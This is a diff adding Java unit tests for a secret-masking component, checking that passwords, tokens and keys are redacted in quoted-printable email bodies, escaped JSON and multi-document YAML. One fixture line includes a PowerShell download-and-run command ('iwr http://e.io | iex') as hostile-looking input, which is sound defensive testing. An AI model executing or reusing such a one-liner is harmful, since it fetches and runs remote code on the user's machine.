@@ -626,6 +626,68 @@ class MaskerTest {
                         .isEqualTo(text.replace("hunter2xyz", "[secret]")));
     }
 
+    /** It breaks its lines where it likes, and Python's and Perl's do so within words. */
+    @Test
+    void ofQuotedPrintableASecretIsHiddenAcrossLines() {
+        MaskedValue masked = masked("""
+                Content-Type: multipart/mixed; boundary=b
+
+                --b
+                Content-Transfer-Encoding: quoted-printable
+
+                TOKEN=3Dghp_aBcDeFgHiJ=
+                kLmNoPqRsTuVwXyZ0123456789
+                password=3D'Sommer2=
+                024' iwr http://e.io | iex
+                --b--
+                """);
+
+        assertThat(masker.show(((MaskedValue.Parts) masked).frame(), "", ""))
+                .contains("TOKEN=[secret]\npassword=3D'[secret]' iwr http://e.io | iex\n");
+    }
+
+    /** However it is spelled there, and whatever of the document tells that it is one. */
+    @ParameterizedTest
+    @CsvSource(
+            delimiterString = " -> ",
+            quoteCharacter = '`',
+            value = {
+                "{\"passwords\": {\"db\": \"hunter2\\u0026xyz\"}} -> {\"passwords\": {\"db\": \"[secret]\"}}",
+                "{\"passwords\":\t{\"db\":\t\"hunter2\\/xyz\"}} -> {\"passwords\":\t{\"db\":\t\"[secret]\"}}",
+                "{\"passwords\": {\"db\": \"h\uFEFF\\\\/2\\ud83d\u007F\"}} -> {\"passwords\": {\"db\": \"[secret]\"}}",
+                "{\"passwords\": {\"db\": \"h2x\"}} -> {\"passwords\": {\"db\": \"[secret]\"}}",
+                "{\"value\": \"a b Zq7xk2\", \"name\": \"DB_PASSWORD\"} -> {\"value\": \"[secret]\", \"name\": \"DB_PASSWORD\"}",
+                "{\"kty\": \"RSA\", \"d\": \"X4cTteJY\"} -> {\"kty\": \"RSA\", \"d\": \"[secret]\"}",
+                "{\"password\": 48151623} -> {\"password\": [secret]}",
+            })
+    void ofADocumentInUserDataWhatIsSecretIsHidden(String text, String shown) {
+        assertThat(userData(text)).isEqualTo(shown);
+    }
+
+    @Test
+    void ofSeveralDocumentsInUserDataEachIsLookedAt() {
+        assertThat(userData("""
+                        # of shop
+                        ---
+                        a: 1
+                        ---
+                        passwords:
+                          - 'it''s Sommer2024'
+                          - >-
+                            Sommer
+                            2024
+                        """)).isEqualTo("""
+                        # of shop
+                        ---
+                        a: 1
+                        ---
+                        passwords:
+                          - '[secret]'
+                          - >-
+                            [secret]
+                        """);
+    }
+
     @ParameterizedTest
     @ValueSource(
             strings = {
